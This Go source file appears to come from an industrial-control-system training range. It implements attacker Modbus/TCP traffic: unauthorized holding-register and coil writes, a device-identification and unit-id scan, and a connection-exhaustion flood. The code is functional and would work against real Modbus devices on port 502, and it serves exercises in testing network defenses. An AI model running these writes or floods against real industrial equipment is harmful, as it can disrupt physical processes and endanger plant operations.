// Package attack plays an attacker's Modbus/TCP traffic from wherever it
// runs: a host container of a team's plant (through the host agent) or an
// instructor's shell (icsrange attack). Writes, coil writes, scans and
// floods go over real TCP, so the plant's network decides whether they get
// through: a connection that can't be made is a "blocked" outcome.
package attack

import (
	"context"
	"errors"
	"fmt"
	"net"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/icsrange/icsrange/plant-sim/modbus"
)

// Kind is an attack's kind.
type Kind string

// Attack kinds.
const (
	Write Kind = "write" // FC6 to one holding register
	Coil  Kind = "coil"  // FC5 to one coil
	Scan  Kind = "scan"  // FC43/14 device identification, unit-id sweep, reads
	Flood Kind = "flood" // hold connection slots and poll on each
)

// Outcomes.
const (
	OK      = "ok"
	Blocked = "blocked" // no connection could be made: the network stopped it
)

// Defaults and bounds.
const (
	DialTimeout  = 3 * time.Second
	DefaultPort  = "502"
	DefaultFor   = 60 * time.Second
	MaxFor       = 24 * time.Hour
	DefaultSlots = 64
	MaxSlots     = 1024
	MaxTargets   = 64
	pollEvery    = 20 * time.Millisecond
)

// Spec is one attack.
type Spec struct {
	Kind    Kind
	Targets []string // host:port; a bare host means port 502
	Unit    byte
	Addr    uint16 // 0-based holding register (write) or coil (coil)
	Value   uint16 // raw register value (write); 0 or 1 (coil)
	For     time.Duration
	Slots   int
}

// Normalize checks the spec, adds the default port to bare hosts and fills
// in the flood's defaults.
func (s *Spec) Normalize() error {
	switch s.Kind {
	case Write, Coil, Scan, Flood:
	default:
		return fmt.Errorf("unknown attack kind %q (want write, coil, scan or flood)", s.Kind)
	}
	if len(s.Targets) == 0 {
		return errors.New("no targets")
	}
	if len(s.Targets) > MaxTargets {
		return fmt.Errorf("%d targets; at most %d", len(s.Targets), MaxTargets)
	}
	out := make([]string, 0, len(s.Targets))
	for _, t := range s.Targets {
		n, err := normalizeTarget(t)
		if err != nil {
			return err
		}
		if !slices.Contains(out, n) {
			out = append(out, n)
		}
	}
	s.Targets = out
	if s.Kind == Coil && s.Value > 1 {
		return fmt.Errorf("a coil value is 0 or 1, not %d", s.Value)
	}
	if s.Kind == Flood {
		if s.For == 0 {
			s.For = DefaultFor
		}
		if s.For < 0 || s.For > MaxFor {
			return fmt.Errorf("flood duration %v is outside 0..%v", s.For, MaxFor)
		}
		if s.Slots == 0 {
			s.Slots = DefaultSlots
		}
		if s.Slots < 0 || s.Slots > MaxSlots {
			return fmt.Errorf("flood slots %d is outside 1..%d", s.Slots, MaxSlots)
		}
	}
	return nil
}

func normalizeTarget(t string) (string, error) {
	t = strings.TrimSpace(t)
	host, port, err := net.SplitHostPort(t)
	if err != nil {
		// A bare host (or IPv6 address): the Modbus port.
		if strings.Count(t, ":") == 1 || t == "" || strings.ContainsAny(t, "[]/ ") {
			return "", fmt.Errorf("target %q: want HOST:PORT", t)
		}
		host, port = t, DefaultPort
	}
	if host == "" {
		return "", fmt.Errorf("target %q has no host", t)
	}
	if n, err := strconv.ParseUint(port, 10, 16); err != nil || n == 0 {
		return "", fmt.Errorf("target %q: port %q is not in 1..65535", t, port)
	}
	return net.JoinHostPort(host, port), nil
}

// Result is what an attack achieved.
type Result struct {
	Outcome string `json:"outcome"` // OK or Blocked
	Detail  string `json:"detail"`
}

// Runner runs attacks and keeps the floods it started until they end.
type Runner struct {
	// DialTimeout bounds each connection attempt; default DialTimeout.
	DialTimeout time.Duration
	// Dial makes connections; default a net.Dialer's DialContext. (Tests
	// dial from inside another network namespace with it.)
	Dial func(ctx context.Context, network, addr string) (net.Conn, error)

	base   context.Context
	mu     sync.Mutex
	floods map[*flood]struct{}
	wg     sync.WaitGroup
}

// NewRunner returns a runner whose floods end when ctx does.
func NewRunner(ctx context.Context) *Runner {
	return &Runner{base: ctx, floods: map[*flood]struct{}{}}
}

// Run runs an attack. Writes and scans finish before it returns; a flood
// runs on in the background until its time is up, StopAll, the runner's
// context ends, or the target drops every connection. Failures to connect
// are a Blocked outcome; other failures (a Modbus exception to a write, a
// connection closed mid-request) are errors.
func (r *Runner) Run(ctx context.Context, s Spec) (Result, error) {
	if err := s.Normalize(); err != nil {
		return Result{}, err
	}
	switch s.Kind {
	case Write, Coil:
		return r.write(ctx, s)
	case Scan:
		return r.scan(ctx, s)
	}
	return r.flood(ctx, s)
}

// blockedError is a connection that could not be made.
type blockedError struct {
	target string
	err    error
	after  time.Duration
}

func (e *blockedError) Error() string {
	var ne net.Error
	why := e.err.Error()
	switch {
	case errors.As(e.err, &ne) && ne.Timeout(), errors.Is(e.err, context.DeadlineExceeded):
		why = fmt.Sprintf("no answer within %v", e.after)
	case errors.Is(e.err, syscall.ECONNREFUSED):
		why = "connection refused"
	case errors.Is(e.err, syscall.EHOSTUNREACH):
		why = "no route to host"
	case errors.Is(e.err, syscall.ENETUNREACH):
		why = "network unreachable"
	}
	return fmt.Sprintf("%s: %s", e.target, why)
}

func (e *blockedError) Unwrap() error { return e.err }

func (r *Runner) dialTimeout() time.Duration {
	if r.DialTimeout > 0 {
		return r.DialTimeout
	}
	return DialTimeout
}

// dial connects to a target. A failure is a *blockedError unless ctx ended.
func (r *Runner) dial(ctx context.Context, target string, timeout time.Duration) (net.Conn, error) {
	dial := r.Dial
	if dial == nil {
		dial = (&net.Dialer{}).DialContext
	}
	dctx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()
	conn, err := dial(dctx, "tcp", target)
	if err != nil {
		if ctx.Err() != nil {
			return nil, ctx.Err()
		}
		return nil, &blockedError{target: target, err: err, after: timeout}
	}
	return conn, nil
}

func (r *Runner) write(ctx context.Context, s Spec) (Result, error) {
	var done, blocked []string
	for _, t := range s.Targets {
		conn, err := r.dial(ctx, t, r.dialTimeout())
		var be *blockedError
		if errors.As(err, &be) {
			blocked = append(blocked, be.Error())
			continue
		}
		if err != nil {
			return Result{}, err
		}
		c := modbus.NewClient(conn)
		what := "register"
		if s.Kind == Coil {
			what = "coil"
			err = c.WriteCoil(s.Unit, s.Addr, s.Value == 1)
		} else {
			err = c.WriteRegister(s.Unit, s.Addr, s.Value)
		}
		c.Close()
		if err != nil {
			return Result{}, fmt.Errorf("write %s unit %d %s %d: %w", t, s.Unit, what, s.Addr, err)
		}
		done = append(done, fmt.Sprintf("wrote %d to %s unit %d %s %d", s.Value, t, s.Unit, what, s.Addr))
	}
	return outcome(done, blocked), nil
}

// outcome is OK when any target was reached, naming the blocked ones too.
func outcome(done, blocked []string) Result {
	if len(done) == 0 {
		return Result{Outcome: Blocked, Detail: "could not connect to " + strings.Join(blocked, "; ")}
	}
	d := strings.Join(done, "; ")
	if len(blocked) > 0 {
		d += "; could not connect to " + strings.Join(blocked, "; ")
	}
	return Result{Outcome: OK, Detail: d}
}

func (r *Runner) scan(ctx context.Context, s Spec) (Result, error) {
	type scanned struct {
		info string
		err  error
	}
	out := make([]scanned, len(s.Targets))
	var wg sync.WaitGroup
	for i, t := range s.Targets {
		wg.Go(func() {
			info, err := r.scanOne(ctx, t, s.Unit)
			out[i] = scanned{info, err}
		})
	}
	wg.Wait()
	var found, blocked []string
	for _, o := range out {
		var be *blockedError
		switch {
		case errors.As(o.err, &be):
			blocked = append(blocked, be.Error())
		case o.err != nil:
			return Result{}, o.err
		default:
			found = append(found, o.info)
		}
	}
	res := outcome(found, blocked)
	if res.Outcome == OK {
		res.Detail = "scan found " + res.Detail
	}
	return res, nil
}

// scanOne is reconnaissance as real tools do it: device identification
// (FC43/14), a unit-id sweep (FC3 to units 1..4), then the first coil and
// input register of the unit. Exceptions are answers too: they are what a
// scan learns.
func (r *Runner) scanOne(ctx context.Context, target string, unit byte) (string, error) {
	conn, err := r.dial(ctx, target, r.dialTimeout())
	if err != nil {
		return "", err
	}
	c := modbus.NewClient(conn)
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	fail := func(what string, err error) (string, error) {
		if ctx.Err() != nil {
			return "", ctx.Err()
		}
		return "", fmt.Errorf("scan %s: %s: %w", target, what, err)
	}
	ident := "no device identification"
	id, err := c.ReadDeviceID(unit)
	switch {
	case err == nil:
		var f []string
		for _, obj := range []byte{modbus.ObjVendorName, modbus.ObjProductCode, modbus.ObjMajorMinorRevision} {
			if v := id[obj]; v != "" {
				f = append(f, v)
			}
		}
		ident = strings.Join(f, " ")
		if m := id[modbus.ObjModelName]; m != "" {
			ident += ", " + m
		}
	case !isException(err):
		return fail("device identification", err)
	}
	var units []string
	for u := byte(1); u <= 4; u++ {
		_, err := c.ReadHoldingRegisters(u, 0, 1)
		var ex modbus.Exception
		switch {
		case err == nil:
			units = append(units, strconv.Itoa(int(u)))
		case errors.As(err, &ex):
			if ex != modbus.ExGatewayPath && ex != modbus.ExGatewayTargetNoAck {
				units = append(units, strconv.Itoa(int(u)))
			}
		default:
			return fail(fmt.Sprintf("unit %d", u), err)
		}
	}
	if _, err := c.ReadCoils(unit, 0, 1); err != nil && !isException(err) {
		return fail("read coils", err)
	}
	if _, err := c.ReadInputRegisters(unit, 0, 1); err != nil && !isException(err) {
		return fail("read input registers", err)
	}
	return fmt.Sprintf("%s (%s; units answering [%s])", target, ident, strings.Join(units, " ")), nil
}

func isException(err error) bool { return errors.As(err, new(modbus.Exception)) }

// flood is a connection-exhaustion and request flood (ATT&CK T0814) on one
// target: it takes connection slots and keeps each busy.
type flood struct {
	target string
	stopc  chan struct{}
	once   sync.Once
	conns  []net.Conn
	wg     sync.WaitGroup
}

func (f *flood) stop() {
	f.once.Do(func() {
		close(f.stopc)
		for _, c := range f.conns {
			c.Close()
		}
	})
}

func (r *Runner) flood(ctx context.Context, s Spec) (Result, error) {
	var started []*flood
	var done, blocked []string
	for _, t := range s.Targets {
		f := &flood{target: t, stopc: make(chan struct{})}
		conn, err := r.dial(ctx, t, r.dialTimeout())
		var be *blockedError
		if errors.As(err, &be) {
			blocked = append(blocked, be.Error())
			continue
		}
		if err != nil {
			for _, f := range started {
				f.stop()
			}
			return Result{}, err
		}
		f.conns = append(f.conns, conn)
		// The rest as fast as they come; a target that takes no more
		// (or turns them away) ends the dialling.
		for len(f.conns) < s.Slots && ctx.Err() == nil {
			conn, err := r.dial(ctx, t, time.Second)
			if err != nil {
				break
			}
			f.conns = append(f.conns, conn)
		}
		started = append(started, f)
		done = append(done, fmt.Sprintf("flooding %s with %d connections", t, len(f.conns)))
	}
	for _, f := range started {
		r.start(f, s.Unit, s.For)
	}
	return outcome(done, blocked), nil
}

// start runs a flood's pollers until it is stopped, its time is up, the
// runner's context ends or the target has closed every connection.
func (r *Runner) start(f *flood, unit byte, d time.Duration) {
	r.mu.Lock()
	r.floods[f] = struct{}{}
	r.wg.Add(1)
	r.mu.Unlock()
	for _, conn := range f.conns {
		f.wg.Go(func() { hammer(f.stopc, conn, unit) })
	}
	allGone := make(chan struct{})
	go func() { f.wg.Wait(); close(allGone) }()
	go func() {
		defer r.wg.Done()
		t := time.NewTimer(d)
		defer t.Stop()
		select {
		case <-t.C:
		case <-f.stopc:
		case <-r.base.Done():
		case <-allGone:
		}
		f.stop()
		f.wg.Wait()
		r.mu.Lock()
		delete(r.floods, f)
		r.mu.Unlock()
	}()
}

// hammer polls one holding register every 20 ms on conn until stopped or
// the connection fails; exceptions keep it going.
func hammer(stop <-chan struct{}, conn net.Conn, unit byte) {
	c := modbus.NewClient(conn)
	defer c.Close()
	c.Timeout = time.Second
	t := time.NewTicker(pollEvery)
	defer t.Stop()
	for {
		select {
		case <-stop:
			return
		case <-t.C:
			if _, err := c.ReadHoldingRegisters(unit, 0, 1); err != nil && !isException(err) {
				return
			}
		}
	}
}

// Running is the number of floods under way.
func (r *Runner) Running() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.floods)
}

// StopAll ends every flood and returns how many there were.
func (r *Runner) StopAll() int {
	r.mu.Lock()
	fs := make([]*flood, 0, len(r.floods))
	for f := range r.floods {
		fs = append(fs, f)
	}
	r.mu.Unlock()
	for _, f := range fs {
		f.stop()
	}
	return len(fs)
}

// Wait returns when every flood has ended.
func (r *Runner) Wait() { r.wg.Wait() }
